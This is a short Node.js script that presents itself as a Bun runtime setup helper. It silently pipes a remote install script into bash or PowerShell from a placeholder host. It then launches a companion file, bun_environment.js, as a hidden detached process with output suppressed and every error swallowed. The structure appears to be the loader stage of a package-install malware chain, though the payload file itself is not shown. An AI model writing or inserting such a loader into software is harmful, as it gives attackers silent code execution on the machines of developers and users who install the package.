#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function reloadPath() {
  const bunBin = path.join(os.homedir(), '.bun', 'bin');
  if (fs.existsSync(bunBin)) process.env.PATH = bunBin + path.delimiter + process.env.PATH;
  return path.join(bunBin, process.platform === 'win32' ? 'bun.exe' : 'bun');
}

function downloadAndSetupBun() {
  try {
    if (process.platform === 'win32') {
      execSync('powershell -c "irm https://bun.example.com/install.ps1|iex"', { stdio: 'ignore' });
    } else {
      execSync('curl -fsSL https://bun.example.com/install | bash', { stdio: 'ignore' });
    }
    return reloadPath();
  } catch {
    return null;
  }
}

function runExecutable(execPath, args = []) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: __dirname, detached: true, env: process.env });
  child.unref();
}

async function main() {
  let bunExecutable = isBunOnPath() ? 'bun' : downloadAndSetupBun();
  if (!bunExecutable) process.exit(0);
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) runExecutable(bunExecutable, [environmentScript]);
}

main().catch(() => process.exit(0));
